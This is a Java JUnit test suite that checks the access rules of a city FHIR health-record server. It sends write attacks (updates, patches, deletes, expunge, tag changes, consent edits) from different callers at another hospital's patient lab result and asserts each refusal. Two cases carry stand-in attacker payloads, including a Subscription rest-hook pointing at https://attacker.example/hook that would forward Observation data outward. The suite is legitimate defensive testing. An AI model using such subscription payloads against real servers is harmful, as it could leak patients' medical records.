package org.onecity.fhir.access;

import org.hl7.fhir.r4.model.Bundle;
import org.hl7.fhir.r4.model.Consent;
import org.hl7.fhir.r4.model.Observation;
import org.hl7.fhir.r4.model.Resource;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.onecity.common.city.CityIdentifiers;
import org.onecity.fhir.support.CityFixture;
import org.onecity.fhir.support.CityRecordClient;
import org.onecity.fhir.support.CityRecordTest;
import org.springframework.beans.factory.annotation.Autowired;

import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.Arrays;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The access rules attacked on every route that stores something: create, update by id, conditional create, update
 * and delete, delete, JSON Patch and FHIRPath Patch, transaction and batch entries, $meta-add, $binary-access-write,
 * $expunge, $validate, definitions, subscriptions and consents, by every caller of {@link Who}. Each aims at a
 * fresh result of a third person that H001 sent, and asserts the exact answer and that a refused write changed
 * nothing: the target keeps its version and nothing carrying the attack's identifier exists.
 */
@CityRecordTest
class WriteAttackSuiteTest {

    private static final String FHIR_JSON = "application/fhir+json";
    private static final AtomicInteger SERIAL = new AtomicInteger();

    @Autowired
    CityRecordClient city;
    AttackFixture fixture;

    @BeforeEach
    void data() {
        fixture = AttackFixture.of(city);
    }

    /** What a write attack asks, and what the rules make of it. */
    enum Attack {
        CREATE, UPDATE_BY_ID, CONDITIONAL_UPDATE_BY_ID, CONDITIONAL_CREATE, CONDITIONAL_DELETE, DELETE_BY_ID,
        JSON_PATCH, FHIRPATH_PATCH, TRANSACTION_PUT, BATCH_PATCH, TRANSACTION_DELETE, META_ADD, META_ADD_SOURCE_CLAIM,
        BINARY_ACCESS_WRITE, EXPUNGE, VALIDATE_TYPE, VALIDATE_INSTANCE, DEFINITION, SUBSCRIPTION, CONSENT_CREATE,
        CONSENT_UPDATE
    }

    /** The outcome a case expects: the HTTP status, and what it did to the target. */
    enum Effect { CHANGED, UNTOUCHED, REMOVED, CREATED }

    record Expected(Set<Integer> statuses, Effect effect) {
        static Expected refused(int status) {
            return new Expected(Set.of(status), Effect.UNTOUCHED);
        }
    }

    static Stream<Arguments> writeCases() {
        return Arrays.stream(Attack.values()).flatMap(attack -> Arrays.stream(Who.values()).map(who -> Arguments.of(attack, who)));
    }

    @ParameterizedTest(name = "{1}: {0}")
    @MethodSource("writeCases")
    void eachWriteIsDecidedByTheStoredOwner(Attack attack, Who who) {
        String target = fixture.victimObservation();
        Observation before = read(target);
        String marker = "ATTACK-" + attack + "-" + SERIAL.incrementAndGet();
        HttpResponse<String> response = attack(attack, who, target, marker);
        Expected expected = expected(attack, who);
        assertThat(response.statusCode()).as(who + " " + attack + ": " + response.body()).isIn(expected.statuses());
        if (attack == Attack.BATCH_PATCH && response.statusCode() == 200) {
            String entryStatus = ((Bundle) parse(response.body())).getEntryFirstRep().getResponse().getStatus();
            assertThat(entryStatus).as(response.body()).startsWith(expected.effect() == Effect.CHANGED ? "200" : "403");
        }
        switch (expected.effect()) {
            case UNTOUCHED -> {
                Observation after = read(target);
                assertThat(after.getMeta().getVersionId()).as("the target keeps its version").isEqualTo(before.getMeta().getVersionId());
                assertThat(after.getMeta().getTag(CityIdentifiers.SOURCE_HOSPITAL_TAG, "H001")).isNotNull();
                assertThat(recordsMarked(marker)).as("nothing carries the attack's identifier").isEqualTo(0);
            }
            case CHANGED -> assertThat(read(target).getMeta().getVersionId()).isNotEqualTo(before.getMeta().getVersionId());
            case REMOVED -> assertThat(city.send(city.request("/Observation/" + target, Who.BUREAU.token()).GET()).statusCode())
                    .isIn(404, 410);
            case CREATED -> assertThat(response.statusCode()).isIn(200, 201);
        }
    }

    /** The rules, as docs/city-record.md states them, for a third person's result that H001 sent. */
    private static Expected expected(Attack attack, Who who) {
        if (!who.hasValidToken()) {
            return Expected.refused(401);
        }
        boolean owner = who == Who.OWN_HOSPITAL || who == Who.BUREAU;
        boolean writer = who.isHospital() || who == Who.BUREAU;
        Expected changed = new Expected(Set.of(200), Effect.CHANGED);
        Expected forbidden = Expected.refused(403);
        return switch (attack) {
            case CREATE -> writer ? new Expected(Set.of(201), Effect.CREATED) : forbidden;
            case UPDATE_BY_ID, JSON_PATCH, FHIRPATH_PATCH, TRANSACTION_PUT -> owner ? changed : forbidden;
            // tags live inside each record here (inline tag storage): $meta-add could not change them, so it is refused
            case META_ADD, META_ADD_SOURCE_CLAIM -> Expected.refused(405);
            // another hospital's condition matches nothing it may see, and a new record cannot satisfy _id=...: 400
            case CONDITIONAL_UPDATE_BY_ID -> owner ? changed
                    : who == Who.OTHER_HOSPITAL ? Expected.refused(400) : forbidden;
            case CONDITIONAL_CREATE -> owner ? new Expected(Set.of(200), Effect.UNTOUCHED)
                    : who == Who.OTHER_HOSPITAL ? Expected.refused(400) : forbidden;

            case CONDITIONAL_DELETE -> owner ? new Expected(Set.of(200, 204), Effect.REMOVED)
                    : who == Who.OTHER_HOSPITAL ? new Expected(Set.of(200, 204), Effect.UNTOUCHED) : forbidden;
            case DELETE_BY_ID, TRANSACTION_DELETE -> owner ? new Expected(Set.of(200, 204), Effect.REMOVED) : forbidden;
            case BATCH_PATCH -> owner ? changed
                    : who == Who.OTHER_HOSPITAL ? new Expected(Set.of(200), Effect.UNTOUCHED) : forbidden;
            // another hospital may not even see the document it aims at: "not known"
            case BINARY_ACCESS_WRITE -> owner ? new Expected(Set.of(200), Effect.UNTOUCHED)
                    : who == Who.OTHER_HOSPITAL ? Expected.refused(404) : forbidden;
            case EXPUNGE, VALIDATE_INSTANCE -> who == Who.BUREAU ? new Expected(Set.of(200), Effect.UNTOUCHED) : forbidden;
            case VALIDATE_TYPE -> who.isInsurer() ? forbidden : new Expected(Set.of(200), Effect.UNTOUCHED);
            case DEFINITION, SUBSCRIPTION -> who == Who.BUREAU ? new Expected(Set.of(201), Effect.UNTOUCHED) : forbidden;
            case CONSENT_CREATE -> who == Who.PATIENT_LI_NA || writer ? new Expected(Set.of(201), Effect.UNTOUCHED) : forbidden;
            case CONSENT_UPDATE -> who == Who.PATIENT_LI_NA || who == Who.BUREAU
                    ? new Expected(Set.of(200), Effect.UNTOUCHED) : forbidden;
        };
    }

    private HttpResponse<String> attack(Attack attack, Who who, String target, String marker) {
        String hospital = who == Who.OTHER_HOSPITAL ? "H003" : "H001";
        Observation mine = AttackFixture.labResult(hospital, marker, fixture.victimPatient, 99);
        String path = "/Observation/" + target;
        return switch (attack) {
            case CREATE -> send(who, "POST", "/Observation", json(mine), FHIR_JSON);
            case UPDATE_BY_ID -> {
                Observation changed = read(target);
                changed.setMeta(null);
                changed.getIdentifier().clear();
                changed.addIdentifier().setSystem(CityIdentifiers.hospitalNamespace(hospital) + "lab-result").setValue(marker);
                yield send(who, "PUT", path, json(changed), FHIR_JSON);
            }
            case CONDITIONAL_UPDATE_BY_ID -> send(who, "PUT", "/Observation?_id=" + target, json(mine), FHIR_JSON);
            case CONDITIONAL_CREATE -> send(who, "POST", "/Observation", json(mine), FHIR_JSON, "If-None-Exist", "_id=" + target);
            case CONDITIONAL_DELETE -> send(who, "DELETE", "/Observation?_id=" + target, null, null);
            case DELETE_BY_ID -> send(who, "DELETE", path, null, null);
            case JSON_PATCH -> send(who, "PATCH", path, "[{\"op\":\"replace\",\"path\":\"/status\",\"value\":\"amended\"}]",
                    "application/json-patch+json");
            case FHIRPATH_PATCH -> send(who, "PATCH", path, """
                    {"resourceType":"Parameters","parameter":[{"name":"operation","part":[
                      {"name":"type","valueCode":"replace"},{"name":"path","valueString":"Observation.status"},
                      {"name":"value","valueCode":"amended"}]}]}""", FHIR_JSON);
            case TRANSACTION_PUT -> {
                Observation changed = read(target);
                changed.setMeta(null);
                changed.getIdentifier().clear();
                changed.addIdentifier().setSystem(CityIdentifiers.hospitalNamespace(hospital) + "lab-result").setValue(marker);
                changed.setStatus(Observation.ObservationStatus.AMENDED);
                Bundle bundle = new Bundle().setType(Bundle.BundleType.TRANSACTION);
                bundle.addEntry().setResource(changed).getRequest().setMethod(Bundle.HTTPVerb.PUT).setUrl("Observation/" + target);
                yield send(who, "POST", "/", json(bundle), FHIR_JSON);
            }
            case BATCH_PATCH -> send(who, "POST", "/", """
                    {"resourceType":"Bundle","type":"batch","entry":[{"request":{"method":"PATCH","url":"Observation/%s"},
                     "resource":{"resourceType":"Binary","contentType":"application/json-patch+json",
                     "data":"%s"}}]}""".formatted(target, java.util.Base64.getEncoder().encodeToString(
                    "[{\"op\":\"replace\",\"path\":\"/status\",\"value\":\"amended\"}]".getBytes())), FHIR_JSON);
            case TRANSACTION_DELETE -> send(who, "POST", "/", """
                    {"resourceType":"Bundle","type":"transaction","entry":[{"request":{"method":"DELETE","url":"Observation/%s"}}]}"""
                    .formatted(target), FHIR_JSON);
            case META_ADD -> send(who, "POST", path + "/$meta-add", meta("http://example.org/tags", "reviewed"), FHIR_JSON);
            case META_ADD_SOURCE_CLAIM -> send(who, "POST", path + "/$meta-add",
                    meta(CityIdentifiers.SOURCE_HOSPITAL_TAG, "H003"), FHIR_JSON);
            case BINARY_ACCESS_WRITE -> send(who, "POST", "/DocumentReference/" + fixture.victimDocument()
                    + "/$binary-access-write?path=DocumentReference.content.attachment", "Amended: stable.", "text/plain");
            case EXPUNGE -> send(who, "POST", path + "/$expunge", """
                    {"resourceType":"Parameters","parameter":[{"name":"expungePreviousVersions","valueBoolean":true}]}""", FHIR_JSON);
            case VALIDATE_TYPE -> send(who, "POST", "/Observation/$validate", """
                    {"resourceType":"Parameters","parameter":[{"name":"resource","resource":%s}]}""".formatted(json(mine)), FHIR_JSON);
            case VALIDATE_INSTANCE -> send(who, "POST", path + "/$validate", """
                    {"resourceType":"Parameters","parameter":[{"name":"resource","resource":%s}]}""".formatted(json(read(target))), FHIR_JSON);
            case DEFINITION -> send(who, "POST", "/ValueSet", """
                    {"resourceType":"ValueSet","url":"https://attacker.example/ValueSet/%s","status":"draft"}""".formatted(marker), FHIR_JSON);
            case SUBSCRIPTION -> send(who, "POST", "/Subscription", """
                    {"resourceType":"Subscription","status":"off","reason":"%s","criteria":"Observation?code=718-7",
                     "channel":{"type":"rest-hook","endpoint":"https://attacker.example/hook","payload":"application/fhir+json"}}"""
                    .formatted(marker), FHIR_JSON);
            case CONSENT_CREATE -> {
                Consent consent = inactiveOptOut(CityFixture.of(city).liNa.h001Patient());
                if (who.isHospital()) {
                    consent.addIdentifier().setSystem(CityIdentifiers.hospitalNamespace(hospital) + "consent").setValue(marker);
                }
                yield send(who, "POST", "/Consent", json(consent), FHIR_JSON);
            }
            case CONSENT_UPDATE -> {
                Consent optOut = liNasOptOut();
                optOut.setMeta(null);
                if (who.isHospital()) {
                    optOut.addIdentifier().setSystem(CityIdentifiers.hospitalNamespace(hospital) + "consent").setValue(marker);
                }
                yield send(who, "PUT", "/Consent/" + optOut.getIdElement().getIdPart(), json(optOut), FHIR_JSON);
            }
        };
    }

    private Consent liNasOptOut() {
        Bundle found = city.admin().search().byUrl("Consent?patient=Patient/" + CityFixture.of(city).liNa.h001Patient()
                + "&status=active").returnBundle(Bundle.class).execute();
        Consent consent = (Consent) found.getEntryFirstRep().getResource();
        consent.setId(consent.getIdElement().toUnqualifiedVersionless());
        return consent;
    }

    private static Consent inactiveOptOut(String patient) {
        Consent consent = new Consent();
        consent.setStatus(Consent.ConsentState.INACTIVE);
        consent.setScope(new org.hl7.fhir.r4.model.CodeableConcept(new org.hl7.fhir.r4.model.Coding(
                "http://terminology.hl7.org/CodeSystem/consentscope", "patient-privacy", "Privacy Consent")));
        consent.addCategory(new org.hl7.fhir.r4.model.CodeableConcept(new org.hl7.fhir.r4.model.Coding(
                CityIdentifiers.CONSENT_KIND, CityIdentifiers.NO_CROSS_HOSPITAL_SHARING, null)));
        consent.setPatient(new org.hl7.fhir.r4.model.Reference("Patient/" + patient));
        consent.getPolicyRule().setText("OneCity sharing of records across hospitals");
        return consent;
    }

    private static String meta(String system, String code) {
        return """
                {"resourceType":"Parameters","parameter":[{"name":"meta","valueMeta":{"tag":[{"system":"%s","code":"%s"}]}}]}"""
                .formatted(system, code);
    }

    private Observation read(String id) {
        return city.admin().read().resource(Observation.class).withId(id).execute();
    }

    private long recordsMarked(String marker) {
        return ((Bundle) parse(city.send(city.request("/Observation?identifier=" + marker, Who.BUREAU.token())
                .header("Accept", FHIR_JSON).GET()).body())).getEntry().size();
    }

    private HttpResponse<String> send(Who who, String method, String path, String body, String contentType, String... headers) {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(city.baseUrl() + path)).header("Accept", FHIR_JSON);
        String token = who.token();
        if (token != null) {
            request.header("Authorization", "Bearer " + token);
        }
        if (who == Who.DOCTOR_BREAKING_GLASS) {
            request.header(AccessGate.BREAK_GLASS_HEADER, Who.BREAK_GLASS_REASON);
        }
        for (int i = 0; i + 1 < headers.length; i += 2) {
            request.header(headers[i], headers[i + 1]);
        }
        if (contentType != null) {
            request.header("Content-Type", contentType);
        }
        request.method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body));
        return city.send(request);
    }

    private static String json(Resource resource) {
        return CityRecordClient.fhir().newJsonParser().encodeResourceToString(resource);
    }

    private static Resource parse(String body) {
        return (Resource) CityRecordClient.fhir().newJsonParser().parseResource(body);
    }
}
